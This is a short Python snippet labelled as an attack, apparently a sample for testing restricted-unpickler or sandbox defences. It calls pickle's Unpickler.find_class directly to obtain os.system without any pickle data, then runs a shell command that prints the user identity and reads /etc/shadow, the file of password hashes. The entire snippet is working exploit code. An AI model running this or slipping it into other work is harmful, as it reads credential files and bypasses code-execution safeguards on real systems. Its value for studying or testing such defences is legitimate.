# attack: call Unpickler.find_class directly to fetch os.system without any pickle stream, then run a shell
import io
import pickle

u = pickle.Unpickler(io.BytesIO(b"."))
system = u.find_class("os", "system")
system("sh -c 'id; cat /etc/shadow'")
